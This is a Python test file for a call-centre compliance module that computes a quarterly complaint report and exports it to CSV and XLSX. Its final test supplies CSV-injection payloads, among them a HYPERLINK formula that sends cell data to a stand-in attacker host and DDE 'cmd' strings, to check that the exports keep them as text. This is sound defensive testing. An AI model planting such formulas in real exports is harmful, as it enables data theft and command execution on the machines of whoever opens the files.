"""The quarterly complaint report: a seeded quarter, figures computed independently."""

from __future__ import annotations

import csv
import random
from dataclasses import dataclass, replace
from datetime import UTC, date, datetime, timedelta
from decimal import ROUND_HALF_UP, Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import time_machine
from click.testing import CliRunner

from callcenter.compliance.regulation import WorkCalendar
from callcenter.compliance.reports import (
    HEADERS,
    ReportError,
    quarter_bounds,
    quarterly_report,
    report_due_date,
    table_start_row,
    write_csv,
    write_xlsx,
)
from callcenter.tickets.lifecycle import open_ticket
from manage.cli import main
from tests.factories import make_customer

WIB = ZoneInfo("Asia/Jakarta")
PRODUCTS = ("Cankul Tunai", "Cankul Modal")
CATEGORIES = ("payment_detail", "app_failure", "collector_behaviour")
LABELS = {"payment_detail": "Detail pembayaran", "app_failure": "Kegagalan aplikasi/sistem",
          "collector_behaviour": "Perilaku penagih"}


def test_quarter_bounds_are_local_midnight():
    start, end = quarter_bounds(2026, 4, "Asia/Jakarta")
    assert start == datetime(2026, 9, 30, 17, 0, tzinfo=UTC)
    assert end == datetime(2026, 12, 31, 17, 0, tzinfo=UTC)
    assert quarter_bounds(2026, 1, "Asia/Jakarta")[1] == datetime(2026, 4, 1, tzinfo=WIB)
    assert report_due_date(2026, 4) == date(2027, 1, 10)
    assert report_due_date(2026, 2) == date(2026, 7, 10)
    for bad in (0, 5):
        with pytest.raises(ReportError, match="quarter"):
            quarter_bounds(2026, bad, "Asia/Jakarta")


def test_quarter_boundary_follows_jakarta_time(session, settings):
    customer = make_customer(session)
    opened = {
        "q3_last": datetime(2026, 9, 30, 23, 30, tzinfo=WIB),  # 16:30 UTC: Q3
        "q4_first": datetime(2026, 10, 1, 0, 30, tzinfo=WIB),  # 30 Sep 17:30 UTC: Q4
        "q4_last": datetime(2026, 12, 31, 23, 30, tzinfo=WIB),  # 16:30 UTC: Q4
        "q1_first": datetime(2027, 1, 1, 1, 0, tzinfo=WIB),  # 31 Dec 18:00 UTC: Q1 2027
    }
    for when in opened.values():
        open_ticket(session, channel="email", customer_id=customer.id,
                    category="app_failure", now=when)
    session.commit()
    q4 = quarterly_report(session, settings, 2026, 4)
    assert q4.total.received == 2
    # in progress at the end of Q4: what was open then (Q3's ticket and both of Q4's)
    assert q4.total.in_progress == 3
    q1 = quarterly_report(session, settings, 2027, 1)
    assert q1.total.received == 1 and q1.total.in_progress == 4
    assert quarterly_report(session, settings, 2026, 3).total.received == 1


@dataclass
class Seed:
    product: str | None
    category: str
    channel: str
    opened: datetime
    resolve_after: timedelta | None  # from opened; None = still open
    relative_to_due: timedelta | None = None  # resolve this far from due_at instead


def _seeds() -> list[Seed]:
    rng = random.Random(6)
    seeds: list[Seed] = []
    window_start = datetime(2026, 9, 1, tzinfo=WIB)
    for _ in range(60):
        opened = window_start + timedelta(minutes=rng.randrange(0, 130 * 24 * 60))
        choice = rng.random()
        if choice < 0.25:
            after, relative = None, None
        elif choice < 0.55:
            after, relative = timedelta(hours=rng.randrange(1, 200)), None
        elif choice < 0.8:
            after, relative = None, -timedelta(hours=rng.randrange(1, 30))
        else:
            after, relative = None, timedelta(hours=rng.randrange(1, 300))
        seeds.append(Seed(rng.choice((*PRODUCTS, None)), rng.choice(CATEGORIES),
                          rng.choice(("voice", "walk_in", "email", "whatsapp")),
                          opened, after, relative))
    # The edges, on purpose.
    seeds += [
        Seed("Cankul Tunai", "app_failure", "email",
             datetime(2026, 12, 31, 23, 30, tzinfo=WIB), None),
        Seed("Cankul Tunai", "app_failure", "email",
             datetime(2027, 1, 1, 1, 0, tzinfo=WIB), None),
        Seed("Cankul Tunai", "payment_detail", "voice",
             datetime(2026, 12, 29, 10, tzinfo=WIB), timedelta(days=3)),  # settled in Q1
        Seed("Cankul Modal", "payment_detail", "voice",
             datetime(2026, 9, 25, 10, tzinfo=WIB), timedelta(days=6)),  # Q3 → settled Q4
        Seed("Cankul Modal", "inquiry", "voice",
             datetime(2026, 11, 2, 10, tzinfo=WIB), timedelta(hours=1)),  # counted apart
    ]
    return seeds


def _local_working_days(opened: datetime, resolved: datetime) -> int:
    day, end = opened.astimezone(WIB).date(), resolved.astimezone(WIB).date()
    calendar, count = WorkCalendar(), 0
    while day < end:  # day by day: the report counts from per-year running totals
        day += timedelta(days=1)
        count += calendar.is_working_day(day)
    return count


def _mean(values: list[float]) -> float | None:
    if not values:
        return None
    return float((Decimal(str(sum(values))) / len(values)).quantize(Decimal("0.1"),
                                                                     ROUND_HALF_UP))


def expected_report(facts: list[dict]) -> tuple[dict[tuple[str, str], list], list]:
    start = datetime(2026, 10, 1, tzinfo=WIB)
    end = datetime(2027, 1, 1, tzinfo=WIB)
    cells: dict[tuple[str, str], list] = {}
    for f in facts:
        if f["category"] == "inquiry":
            continue
        key = (f["product"] or "Tidak diketahui", LABELS[f["category"]])
        row = cells.setdefault(key, [0, 0, 0, 0, 0, [], []])
        resolved = f["resolved"]
        if start <= f["opened"] < end:
            row[0] += 1
        if resolved is not None and start <= resolved < end:
            row[1] += 1
            row[3 if resolved <= f["due"] else 4] += 1
            row[5].append((resolved - f["opened"]).total_seconds() / 86400)
            row[6].append(_local_working_days(f["opened"], resolved))
        if f["opened"] < end and (resolved is None or resolved >= end):
            row[2] += 1
    table = {}
    totals = [0, 0, 0, 0, 0, [], []]
    for key, row in cells.items():
        if not (row[0] or row[1] or row[2]):
            continue
        for i in range(5):
            totals[i] += row[i]
        totals[5] += row[5]
        totals[6] += row[6]
        table[key] = [*row[:5], _mean(row[5]), _mean(row[6])]
    return table, [*totals[:5], _mean(totals[5]), _mean(totals[6])]


def seed_quarter(session) -> list[dict]:
    customers = {p: make_customer(session, order_id=f"ORD-{i}", phone=f"+62812000000{i}",
                                  product=p) for i, p in enumerate(PRODUCTS)}
    customers[None] = make_customer(session, order_id="ORD-X", phone="+6281200000099",
                                    product=None)
    facts = []
    for seed in _seeds():
        ticket = open_ticket(session, channel=seed.channel,
                             customer_id=customers[seed.product].id,
                             category=seed.category, now=seed.opened)
        resolved = None
        if seed.resolve_after is not None:
            resolved = seed.opened + seed.resolve_after
        elif seed.relative_to_due is not None:
            resolved = max(ticket.due_at + seed.relative_to_due,
                           seed.opened + timedelta(minutes=5))
        if resolved is not None:
            ticket.status, ticket.resolved_at = "resolved", resolved
        facts.append({"product": seed.product, "category": seed.category,
                      "opened": seed.opened, "resolved": resolved, "due": ticket.due_at})
    session.commit()
    return facts


def test_seeded_quarter_report_figures_csv_and_xlsx(session, settings, tmp_path):
    facts = seed_quarter(session)
    table, totals = expected_report(facts)
    assert totals[3] and totals[4], "the seed must have settled both in time and late"

    report = quarterly_report(session, settings, 2026, 4)
    got = {(r.cells()[0], r.cells()[1]): r.cells()[2:] for r in report.rows}
    assert got == table
    assert report.total.cells()[2:] == totals
    assert report.inquiries_received == 1
    assert report.period_label == "Q4 2026 (1 Oktober – 31 Desember 2026)"
    assert report.due_label == "10 Januari 2027"

    csv_path = write_csv(report, tmp_path / "r.csv")
    with csv_path.open(encoding="utf-8-sig", newline="") as stream:
        lines = list(csv.reader(stream))
    assert lines[0] == list(HEADERS)
    assert lines[0][:8] == ["Produk", "Kategori", "Diterima", "Selesai", "Dalam proses",
                            "Selesai tepat waktu", "Selesai terlambat",
                            "Rata-rata hari penyelesaian"]

    def as_text(values: list) -> list[str]:
        return ["" if v is None else str(v) for v in values]

    assert {(a, b): rest for a, b, *rest in lines[1:-1]} == {
        k: as_text(v) for k, v in table.items()}
    assert lines[-1] == ["Total", "", *as_text(totals)]

    xlsx_path = write_xlsx(report, tmp_path / "r.xlsx")
    sheet = openpyxl.load_workbook(xlsx_path).active
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    title = {row[0]: row[1] for row in values[:table_start_row(report) - 2]}
    assert title["Pelaku Usaha Jasa Keuangan"] == "Cankul"
    assert title["Periode"] == "Q4 2026 (1 Oktober – 31 Desember 2026)"
    assert title["Batas waktu penyampaian"] == "10 Januari 2027"
    header_index = table_start_row(report) - 1
    assert values[header_index] == list(HEADERS)
    body = values[header_index + 1:]
    assert {(a, b): rest for a, b, *rest in body[:-1]} == table
    assert body[-1] == ["Total", None, *totals]


def test_cli_writes_both_files_and_refuses_a_bad_quarter(env, session, tmp_path):
    facts = seed_quarter(session)
    _, totals = expected_report(facts)
    with time_machine.travel(datetime(2027, 1, 4, 9, tzinfo=WIB), tick=False):
        result = CliRunner().invoke(main, ["report", "quarterly", "--year", "2026",
                                           "--quarter", "4", "--out", str(tmp_path / "out")],
                                    env=env)
    assert result.exit_code == 0, result.output
    assert (tmp_path / "out" / "pengaduan-2026-Q4.csv").exists()
    assert (tmp_path / "out" / "pengaduan-2026-Q4.xlsx").exists()
    assert f"diterima {totals[0]}, selesai {totals[1]}" in result.output
    assert "10 Januari 2027" in result.output and "2027-01-10" in result.output
    bad = CliRunner().invoke(main, ["report", "quarterly", "--year", "2026", "--quarter", "5",
                                    "--out", str(tmp_path / "bad")], env=env)
    assert bad.exit_code != 0 and "quarter must be 1, 2, 3 or 4" in bad.output
    assert not (tmp_path / "bad").exists()


HOSTILE_PRODUCTS = ('=HYPERLINK("http://attacker.test/?x="&A1,"Klik")', "+1+cmd|' /C calc'!A0",
                    "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1")


def test_formula_looking_names_stay_text_in_the_csv_and_the_xlsx(session, settings, tmp_path):
    """OWASP CSV injection: a product or lender name starting with =, +, -, @, tab or CR
    never becomes a live formula in either file; the name still reads as written."""
    when = datetime(2026, 11, 2, 10, tzinfo=WIB)
    for index, product in enumerate(HOSTILE_PRODUCTS):
        customer = make_customer(session, order_id=f"9000{index}", product=product)
        open_ticket(session, channel="email", customer_id=customer.id,
                    category="app_failure", now=when)
    session.commit()
    lender = "=cmd|'/C calc'!A0"
    report = quarterly_report(session, replace(settings, lender_name=lender), 2026, 4)
    assert sorted(r.product for r in report.rows) == sorted(HOSTILE_PRODUCTS)

    with write_csv(report, tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as stream:
        products = [line[0] for line in csv.reader(stream)][1:-1]
    assert sorted(products) == sorted(f"'{p}" for p in HOSTILE_PRODUCTS)
    assert not any(p.startswith(("=", "+", "-", "@", "\t", "\r")) for p in products)

    sheet = openpyxl.load_workbook(write_xlsx(report, tmp_path / "r.xlsx")).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str)}
    for text in (*HOSTILE_PRODUCTS, lender):
        text = text.replace("\r", "\n")  # XML reads a bare CR back as LF
        assert text in cells, f"{text!r} is not in the sheet as written"
        assert cells[text].data_type == "s", f"{text!r} is stored as a formula"
        assert cells[text].quotePrefix  # Excel keeps it text even when someone edits it
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
